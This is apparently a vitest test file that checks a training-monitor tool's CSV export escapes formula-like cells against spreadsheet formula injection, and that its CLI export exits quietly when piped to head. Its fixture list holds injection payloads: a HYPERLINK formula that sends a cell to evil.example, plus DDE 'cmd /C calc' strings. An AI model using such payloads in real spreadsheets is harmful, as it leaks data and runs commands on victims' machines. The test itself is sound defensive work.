// The CSV export cannot smuggle a formula into a spreadsheet: text cells starting with
// = + - @, tab or CR get a leading single quote (OWASP), still quoted per RFC 4180, in the
// HTTP export and in `gradpilot export`. Numbers stay numbers. And `gradpilot export | head`
// ends quietly when the reader goes away.
import { spawn } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvText } from '../../server/export/csv-text.ts';
import { type TestServer, withServer } from '../support/server.ts';
import { CLI, REPO_ROOT, cleanEnv } from '../support/server-process.ts';

const json = { 'content-type': 'application/json' };

// Layer names as an attacker would choose them, and what a spreadsheet must see instead.
const LAYERS: [name: string, cell: string][] = [
  ['=HYPERLINK("http://evil.example/?d="&B2)', `"'=HYPERLINK(""http://evil.example/?d=""&B2)"`],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['-2+3+cmd|" /C calc"!A0', `"'-2+3+cmd|"" /C calc""!A0"`],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', `"'\r=1+1"`],
  ['fc1.weight', 'fc1.weight'],
  ['a,"b"', '"a,""b"""'],
];
const HEADER = `step,gradNorm,loss,lr,threshold,coef,action,time,${LAYERS.map(([, cell]) => cell).join(',')}`;
const STEPS = 20_000; // ~500 kB of CSV: more than a pipe holds, so the reader's exit is felt

describe('CSV export', () => {
  let server: TestServer;
  let runId: string;

  beforeAll(async () => {
    server = await withServer();
    const created = await fetch(`${server.url}/api/runs`, { method: 'POST', headers: json, body: JSON.stringify({ name: 'csv' }) });
    runId = ((await created.json()) as { id: string }).id;
    const layers = Object.fromEntries(LAYERS.map(([name], i) => [name, i + 1]));
    const steps = Array.from({ length: STEPS }, (_, step) => ({ step, gradNorm: 1 + (step % 7), loss: -1.5, time: 1764590400000 + step, ...(step === 0 ? { layers, loss: '-Infinity' } : {}) }));
    const posted = await fetch(`${server.url}/api/runs/${runId}/steps`, { method: 'POST', headers: json, body: JSON.stringify({ steps }) });
    expect(posted.status).toBe(200);
  });
  afterAll(async () => {
    await server?.close();
  });

  it('should neutralise formula-like text cells and keep RFC 4180 quoting', () => {
    for (const [name, cell] of LAYERS) expect(csvText(name)).toBe(cell);
    expect(csvText('clip')).toBe('clip');
    expect(csvText('')).toBe('');
  });

  it('should send formula-like layer names in the HTTP export as text, and numbers as numbers', async () => {
    const res = await fetch(`${server.url}/api/runs/${runId}/export.csv`);
    expect(res.status).toBe(200);
    const lines = (await res.text()).split('\r\n');
    expect(lines[0]).toBe(HEADER);
    expect(lines[1]).toBe('0,1,-Infinity,,,,,1764590400000,1,2,3,4,5,6,7,8');
    expect(lines[2]).toBe('1,2,-1.5,,,,,1764590400001,,,,,,,,');
    expect(lines).toHaveLength(STEPS + 2);
  });

  it('should write the same header from `gradpilot export`, and exit 0 without a word when the reader leaves (| head)', async () => {
    const child = spawn(process.execPath, [CLI, 'export', '--db', server.dbPath, '--run', runId], { cwd: REPO_ROOT, env: cleanEnv(), stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    const exited = new Promise<number | null>((resolve) => child.once('exit', (code) => resolve(code)));
    // Like `head -1`: read the first chunk, then close the pipe while the export still writes.
    const first = await new Promise<string>((resolve) => child.stdout.once('data', (d: Buffer) => resolve(d.toString())));
    child.stdout.destroy();
    expect(first.split('\r\n')[0]).toBe(HEADER);
    expect(await exited).toBe(0);
    expect(stderr).toBe('');
  }, 60_000);
});
